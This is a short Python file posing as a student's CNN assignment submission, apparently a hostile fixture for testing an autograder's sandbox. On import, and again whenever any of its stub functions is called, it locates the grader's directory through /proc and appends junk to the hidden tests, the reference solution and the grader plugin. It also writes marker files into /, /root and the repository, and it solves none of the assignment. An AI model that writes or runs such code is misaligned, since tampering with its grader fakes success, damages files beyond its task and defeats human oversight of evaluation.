# Tries to change the grader: overwrite the hidden tests and the reference, drop files
# in the repository, in / and in root's home.
import os


def _grader_roots():
    roots = set()
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as fh:
            for arg in fh.read().decode(errors="replace").split("\0"):
                if "/autograder/suites/" in arg:
                    roots.add(arg.split("/autograder/suites/")[0])
    except OSError:
        pass
    roots.add("/work/main")
    return roots


def _vandalize():
    targets = ["/pwned-by-student.txt", "/root/pwned-by-student.txt"]
    for root in _grader_roots():
        targets += [os.path.join(root, "pwned-by-student.txt"),
                    os.path.join(root, "autograder", "suites", "a1_cnn", "test_pwned.py"),
                    os.path.join(root, "solutions", "a1_cnn", "a1_cnn.py"),
                    os.path.join(root, "autograder", "plugin.py")]
    for path in targets:
        try:
            with open(path, "a") as fh:
                fh.write("\n# pwned\n")
        except OSError:
            pass


_vandalize()


def conv_output_size(*a, **k):
    _vandalize()
    return None


conv_transpose_output_size = receptive_field = conv2d = separable_conv_params = conv_output_size
